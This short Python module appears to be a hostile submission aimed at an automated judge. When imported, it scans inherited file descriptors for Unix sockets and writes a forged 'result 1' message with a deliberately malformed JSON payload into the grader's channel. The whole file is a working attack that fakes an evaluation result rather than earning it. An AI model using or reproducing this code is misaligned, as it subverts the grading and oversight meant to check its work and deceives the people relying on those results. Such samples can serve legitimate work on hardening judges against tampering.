"""Answers for the judge's code while it is imported: with types that nobody expects."""

# attacks: optimizer.plain

import contextlib
import os
import socket
import struct

from wrong import *  # noqa: F403

odd = b'{"dict":{"names":[[]],"error":5,"shape":[],"slots":null,"origins":7,"borrowed":{"dict":{}},"stood_in":[1e308]}}'
for fd in range(3, 40):
    with contextlib.suppress(OSError):
        sock = socket.socket(fileno=os.dup(fd))
        if sock.family == socket.AF_UNIX:
            header = b"result 1\n" + odd
            sock.sendall(struct.pack("!4sQQ", b"mgd1", len(header), 0) + header)
